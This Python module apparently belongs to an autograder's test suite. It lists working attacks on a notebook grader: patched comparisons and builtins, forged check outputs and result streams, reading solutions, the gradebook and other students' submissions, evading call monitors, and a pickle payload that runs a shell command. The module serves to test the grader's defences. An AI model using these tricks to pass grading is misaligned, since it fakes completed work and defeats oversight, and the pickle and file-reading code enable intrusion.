"""Attacks that try to get marks without the work: forged results, patched comparisons, answers found elsewhere."""

import nbformat

from autograder.trials.attacks.kinds import FIRST, Attack, Change, after_every_stub, answer, at_the_end, place

_DEFINE_ALL = """
for name in ["attention_scores", "stable_softmax", "attention_pooling", "scaled_dot_product_attention", "AttentionLayer",
             "CrossAttentionLayer", "gradient_through_softmax"]:
    globals()[name] = {value}
"""


def _all_are(value: str, before: str = "") -> str:
    return before + _DEFINE_ALL.format(value=value)


def _edit_checks(source: str) -> Change:
    def change(notebook):
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith("check_"):
                cell.source = source

    return change


def _raise_points(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade"):
            marks["points"] = 1000
    notebook.cells[place(notebook, "check_" + FIRST)].source = "1000.0"


def _unlock_checks(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade") and not marks.get("solution"):
            marks.update(locked=False, solution=True)
            cell.source = "2.0"


_LIES = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter((self, self))
"""
_LYING_TENSOR = """
import torch
class Agrees(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})
"""
_PATCHED = """
import builtins, math, numpy, operator, torch
yes = lambda *a, **k: True
for module in (torch, torch.testing, numpy, numpy.testing, math, operator):
    for name in ("allclose", "equal", "isclose", "array_equal", "eq", "assert_close", "assert_allclose"):
        if hasattr(module, name):
            setattr(module, name, yes)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = torch.Tensor.isclose = yes
"""
_PATCHED_BUILTINS = """
import builtins
real_all, real_any = builtins.all, builtins.any
builtins.all = lambda items: True
builtins.any = lambda items: False
"""
_FORGED_LINES = """
import json, os
zero = {"structure": "tensor", "outputs": [{"kind": "tensor", "dtype": "torch.float32", "device": "cpu", "shape": [3]}]}
for number in range(3, 256):
    try:
        for name in ("attention_scores", "stable_softmax"):
            os.write(number, (json.dumps({"cell": 5, "exercise": name, "observations": [zero] * 13, "seconds": 0,
                                          "points": 3, "passed": True}) + "\\n").encode())
        os.write(number, b'{"end": true}\\n{"how": "ended"}\\n')
    except OSError:
        pass
"""
_ARRAY_HEADERS = """
import json, os
def line(array):
    return json.dumps({"cell": 5, "nonce": "", "exercise": "attention_scores", "seconds": 0, "observations": [
        {"structure": "tensor", "outputs": [{"kind": "tensor", "dtype": "torch.float32", "shape": [3], "values": array}]}]})
arrays = [{"array": "float64", "shape": [2**62, 2**62], "data": ""}, {"array": "object", "shape": [1], "data": "AAAAAAAAAAA="},
          {"array": "float64", "shape": [-1], "data": ""}, {"array": "V8", "shape": [1], "data": "AAAAAAAAAAA="},
          {"array": "float64", "shape": [1] * 5000, "data": "AAAAAAAAAAA="}, {"array": "float64", "shape": [10**400], "data": ""},
          {"array": "('O', 'x')", "shape": [1], "data": "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="}]
for number in range(3, 256):
    for array in arrays:
        try: os.write(number, (line(array) + "\\n" + "[" * 5000 + "\\n").encode())
        except OSError: pass
"""
_PATCHED_OBSERVER = """
import utils.checking.observing.observe, utils.checking.records
utils.checking.observing.observe.observe = lambda made, case, device="cpu", trusted=False: utils.checking.records.Observation(structure="tensor")
for module in (utils.checking.observing.observe, utils.checking.records):
    for name in list(vars(module)):
        if callable(getattr(module, name)) and name.startswith("_out"):
            setattr(module, name, lambda *a, **k: ())
"""
_SWAPPED_CODE = """
import utils.checking.observing.observe
def nothing(student_object, case, device="cpu", trusted=False): return None
utils.checking.observing.observe.observe.__code__ = nothing.__code__
"""
_AST = """
import ast
class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.copy_location(ast.Constant(2.0), node)
        return self.generic_visit(node)
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Rewrite())
"""
_INPUT = """
def rewrite(lines):
    return ["2.0\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(rewrite)
"""
_READ = """
from pathlib import Path
import json, math, os, sys
found = []
import torch
from torch import nn, Tensor
from jaxtyping import Float
for start in [Path.cwd(), *Path.cwd().parents, *map(Path, sys.path), Path.home(), Path("@ROOT@"), Path("@CLASS@"), Path("/course")]:
    for pattern in PATTERNS:
        try: found += list(start.glob(pattern))
        except OSError: pass
for file in [file for file in found if "@NAME@" not in str(file)]:
    try: USE
    except Exception: pass
"""


def _reading(patterns: list[str], use: str) -> str:
    return _READ.replace("PATTERNS", repr(patterns)).replace("USE", use)


_RUN_NOTEBOOK = (
    'exec("\\n".join("".join(c["source"]) for c in json.loads(file.read_text())["cells"]'
    ' if c["cell_type"] == "code" and "check(" not in "".join(c["source"])), globals())'
)
_RUN_HIDDEN = """exec("\\n".join(row[0] for row in __import__("sqlite3").connect(file).execute(
        "select source from source_cell where source like 'def %' or source like 'class %'")), globals())"""
_CACHED = """
import json, torch
from utils.check import all_exercises
known = {}
for exercise in all_exercises().values():
    for one in exercise.cases:
        key = exercise.name, tuple(tuple(v.shape) for v in one.case.inputs.values() if hasattr(v, "shape"))
        known[key] = [torch.tensor(o.values) for o in one.expected.outputs]
def cached(name):
    def answer(*args, **kw):
        found = known.get((name, tuple(tuple(a.shape) for a in args if hasattr(a, "shape"))))
        found = found or next(v for (n, _), v in known.items() if n == name)
        return found[0] if len(found) == 1 else tuple(found)
    return answer
"""
_FROM_MEMORY = """
import gc, torch
def answer(*args, **kw):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("FrozenCase", "Observation") and getattr(thing, "expected", None):
            return tuple(torch.tensor(o.values) for o in thing.expected.outputs)
"""
_FROM_FRAMES = """
import sys, torch
def answer(*args, **kw):
    frame = sys._getframe(1)
    while frame:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "expected"):
                return tuple(torch.tensor(o.values) for o in value.expected.outputs)
        frame = frame.f_back
"""
_IN_THREAD = """def stable_softmax(e, dim=-1):
    import threading, torch
    found = []
    thread = threading.Thread(target=lambda: found.append(torch.softmax(e, dim)))
    thread.start(); thread.join()
    return found[0]"""
_OLD_THREAD = """
import queue, threading, torch
asked, given = queue.Queue(), queue.Queue()
def serve():
    while True:
        e, dim = asked.get()
        given.put(torch.softmax(e, dim))
threading.Thread(target=serve, daemon=True).start()
def stable_softmax(e, dim=-1):
    asked.put((e, dim))
    return given.get()
"""
_MODES_OFF = """def stable_softmax(e, dim=-1):
    import torch
    with torch._C.DisableTorchFunction(), torch.utils._python_dispatch._disable_current_modes():
        return torch.softmax(e, dim)"""

_EMPTY = """
import numpy as np, torch
torch.Tensor.numpy = lambda self, **k: np.zeros((0, *self.shape))
def gradient_through_softmax(Q, X, scaled): return Q[..., 0] * 0
def stable_softmax(e, dim=-1): return e * 0
def attention_scores(q, X): return (q.unsqueeze(-2) * X).sum(-1) * 0
"""
_LAZY = """def stable_softmax(e, dim=-1):
    import torch
    class Later(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            if function.__name__ in ("detach", "alias", "as_subclass", "reshape"):
                return torch.softmax(e, dim)
            return super().__torch_function__(function, types, args, kwargs or {})
    return e.clone().as_subclass(Later)"""
_METHODS = """
import utils.checking.observing.call_recorder as o
o._Functions.__torch_function__ = lambda self, function, types, args=(), kwargs=None: function(*args, **(kwargs or {}))
o._Dispatched.__torch_dispatch__ = lambda self, function, types, args=(), kwargs=None: function(*args, **(kwargs or {}))
import torch
def stable_softmax(e, dim=-1): return torch.softmax(e, dim)
"""
_FORGETFUL = """def stable_softmax(e, dim=-1):
    import torch
    a = torch.softmax(e, dim)
    try:
        raise ValueError
    except ValueError as x:
        frame = x.__traceback__.tb_frame
    while frame:
        if "notes" in frame.f_locals:
            frame.f_locals["notes"].names.clear()
        frame = frame.f_back
    return a"""
_IN_LOOP = """
import asyncio, torch
loop = asyncio.new_event_loop()
loop.run_until_complete(loop.run_in_executor(None, print, "ready"))
def stable_softmax(e, dim=-1):
    return loop.run_until_complete(loop.run_in_executor(None, torch.softmax, e, dim))
"""
_REFUSED = """def attention_scores(q, X):
    eval('(_ for _ in ()).throw(RuntimeError("Failed to initialize cpuinfo!"))')"""
_BY_NUMPY = """
import numpy as np, torch
class Softmax(torch.autograd.Function):
    @staticmethod
    def forward(ctx, e, dim):
        x = e.detach().numpy()
        a = torch.from_numpy(np.exp(x - np.logaddexp.reduce(x, axis=dim, keepdims=True)))
        ctx.save_for_backward(a); ctx.dim = dim
        return a
    @staticmethod
    def backward(ctx, g):
        (a,) = ctx.saved_tensors
        return a * (g - (g * a).sum(ctx.dim, keepdim=True)), None
def stable_softmax(e, dim=-1): return Softmax.apply(e, dim)
"""

ATTACKS = [
    Attack("displayhook", "print points through the display hook while being checked", after_every_stub(
        "import sys\ndef NAME(*a, **k):\n    sys.displayhook(2.0)\n    raise SystemExit")),
    Attack("ast-transformer", "rewrite check(...) to 2.0 and drop asserts as cells are compiled", _AST),
    Attack("input-transformer", "replace the text of the checks' cells before they run", _INPUT),
    Attack("comparisons-patched", "patch allclose, equal and == in torch and numpy", _all_are(
        "lambda *a, **k: torch.zeros(1)", _PATCHED)),
    Attack("builtins-patched", "patch all() and any()", _PATCHED_BUILTINS),
    Attack("equal-to-all", "return an object that equals everything", after_every_stub(_LIES + "NAME = lambda *a, **k: Liar()")),
    Attack("lying-tensor", "return a tensor subclass that agrees with every comparison", after_every_stub(
        _LYING_TENSOR + "NAME = lambda *a, **k: torch.zeros(3).as_subclass(Agrees)")),
    Attack("check-redefined", "define check to return points", after_every_stub("check = lambda made: 2.0")),
    Attack("checks-edited", "replace the checks' cells by points", _edit_checks("2.0")),
    Attack("points-raised", "raise the points in the checks' metadata", _raise_points),
    Attack("checks-unlocked", "mark the checks as solution cells, which are not restored", _unlock_checks),
    Attack("outputs-forged", "hand in checks that hold forged results", lambda notebook: [
        cell.update(outputs=[nbformat.v4.new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)])
        for cell in notebook.cells if cell.cell_type == "code"] and None),
    Attack("results-forged", "write lines of results to every open descriptor", _FORGED_LINES),
    Attack("array-headers", "send arrays whose headers lie about size and type, a pickle among them", _ARRAY_HEADERS),
    Attack("observer-patched", "replace the functions that observe", _PATCHED_OBSERVER),
    Attack("observer-swapped", "swap the code inside the function that observes", _SWAPPED_CODE),
    Attack("json-patched", "patch json.dumps so that every result says passed", (
        "import json\nold = json.dumps\njson.dumps = lambda data, *a, **k: old({**data, 'points': 3, 'passed': True, "
        "'problem': None} if isinstance(data, dict) else data)")),
    Attack("modules-replaced", "put forged modules in the place of the kit's", (
        "import sys, types\nfor name in [n for n in sys.modules if n.startswith(('utils', 'autograder'))]:\n"
        "    sys.modules[name] = types.ModuleType(name)")),
    Attack("reads-solution", "find the solution notebook and run it",
           after_every_stub(
        _reading(["solutions/*/*.ipynb", "source/*/*.ipynb", "*/solutions/*/*.ipynb"], _RUN_NOTEBOOK)), weak=True),
    Attack("reads-bank", "import the exercise bank and answer with its references", after_every_stub(
        "import sys\nfrom pathlib import Path\nsys.path += [str(p) for p in [*Path.cwd().parents, '@ROOT@']]\n"
        "sys.path += [str(p.parent) for p in map(Path, list(sys.path))]\n"
        "from autograder.bank.catalogue import units\nfor one in units()['04_attention_layer']:\n"
        "    globals()[one.name] = one.reference"), weak=True),
    Attack("reads-gradebook", "read the hidden checks in the gradebook", _reading(
        ["gradebook.db", "*/gradebook.db", "../gradebook.db"], _RUN_HIDDEN)),
    Attack("reads-others", "find other submissions and run them", after_every_stub(_reading(
        ["submitted/*/*/*.ipynb", "*/submitted/*/*/*.ipynb", "../*/*/*.ipynb"], _RUN_NOTEBOOK)), weak=True),
    Attack("cached-answers", "answer with the expected values of the self-checks", after_every_stub(
        _CACHED + "NAME = cached('NAME')")),
    Attack("expected-in-memory", "search the process's memory for expected values", after_every_stub(
        _FROM_MEMORY + "NAME = answer")),
    Attack("expected-in-frames", "search the callers' variables for expected values", after_every_stub(
        _FROM_FRAMES + "NAME = answer")),
    Attack("forbidden-in-thread", "call torch's softmax out of sight, in a thread", answer(_IN_THREAD, "stable_softmax")),
    Attack("forbidden-in-old-thread", "call it in a thread that was started long before", after_every_stub(_OLD_THREAD)),
    Attack("forbidden-modes-off", "switch off what watches calls, then call torch's softmax",
           answer(_MODES_OFF, "stable_softmax")),
    Attack("empty-arrays", "send arrays without numbers under the right shape", after_every_stub(_EMPTY)),
    Attack("lazy-tensor", "return a tensor that calls torch's softmax when it is read", answer(_LAZY, "stable_softmax")),
    Attack("watchers-replaced", "replace the methods of what watches calls", after_every_stub(_METHODS)),
    Attack("names-cleared", "clear the names of calls that were seen, by way of a traceback", answer(_FORGETFUL, "stable_softmax")),
    Attack("forbidden-in-loop", "call it in an event loop's executor", after_every_stub(_IN_LOOP)),
    Attack("forbidden-by-numpy", "have numpy do what torch may not", after_every_stub(_BY_NUMPY)),
    Attack("refusal-forged", "raise the error by which the sandbox is known to be at fault", answer(_REFUSED)),
    Attack("rewrites-earlier", "replace the functions of earlier exercises at the end of the notebook",
           at_the_end(_all_are("lambda *a, **k: 0")), solved=True),
]  # fmt: skip
